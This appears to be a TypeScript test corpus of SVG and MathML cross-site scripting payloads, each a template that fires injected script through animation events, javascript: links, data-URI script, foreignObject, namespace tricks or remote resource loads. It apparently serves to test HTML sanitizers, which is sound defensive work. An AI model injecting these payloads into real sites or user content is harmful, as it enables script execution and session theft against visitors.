import { type Attack, base64 } from "./attack.ts";

/** SVG and MathML that act by themselves. */
export const graphics: Attack[] = [
	(run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
	(run) => `<svg><animate attributeName=x dur=1ms onend=${run} onrepeat=${run} repeatCount=2></svg>`,
	(run) => `<svg><set onbegin=${run} attributeName=x to=1></svg>`,
	(run) => `<svg><animateTransform onbegin=${run} attributeName=transform></svg>`,
	(run) => `<svg><animateMotion onbegin=${run} dur=1s path="M0 0"></animateMotion></svg>`,
	(run) => `<svg><discard onbegin=${run} begin=0s></svg>`,
	(run) => `<svg><a><animate attributeName=href values="javascript:${run}"></animate><text y=20>Words</text></a></svg>`,
	(run) => `<svg><a><set attributeName="xlink:href" to="javascript:${run}"></set><text y=20>Words</text></a></svg>`,
	(run) =>
		`<svg><a id=w href="#"><text y=20>Words</text></a><animate href=#w attributeName=href from="javascript:${run}" to="#" dur=9s></svg>`,
	(run) =>
		`<svg><a><animate attributeName=href values="#;javascript:${run}" keyTimes="0;0.001" dur=1s fill=freeze></animate><text y=20>Words</text></a></svg>`,
	(run) =>
		`<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#x" /></svg>`,
	(_, far) => `<svg><use xlink:href="${far}#x"></use></svg>`,
	(_, far) => `<svg><image href="${far}" width=9 height=9 /></svg>`,
	(_, far) => `<svg><filter><feImage href="${far}" /></filter></svg>`,
	(run, far) => `<svg><image xlink:href="${far}" onerror=${run}></image></svg>`,
	(_, far) =>
		`<svg><style>@import "${far}";*{fill:url(${far}?f)}</style><rect width=9 height=9 style="fill:url(${far}?s)"></svg>`,
	(run) =>
		`<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe></foreignObject></svg>`,
	(run) => `<svg><foreignObject width=9 height=9><body onload=${run}><img src=x onerror=${run}></foreignObject></svg>`,
	(run) =>
		`<svg><handler type="text/javascript" ev:event=load>${run}</handler><listener event=load handler=#h></listener></svg>`,
	(run) => `<svg><text onclick=${run} onfocusin=${run} tabindex=0 y=20>Words</text></svg>`,
	(run) => `<svg><view onload=${run}></view><desc onclick=${run}>Words</desc><g onload=${run}></g></svg>`,
	(run) => `<svg:svg onload=${run}></svg:svg><svg xmlns:x=y x:onload=${run} onload=${run}>`,
	(run) => `<svg xmlns="http://www.w3.org/2000/svg"><g><svg onload="${run}"></g></svg>`,
	(run) => `<p>Words <svg width=1 onfocus=${run} tabindex=0 autofocus> more</p>`,
	(run) => `<math><mi onclick=${run} style="font-size:99px">Words</mi></math>`,
	(run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
	(run) =>
		`<math><semantics><mi>a</mi><annotation-xml encoding="application/xhtml+xml"><svg onload=${run}></annotation-xml></semantics></math>`,
];
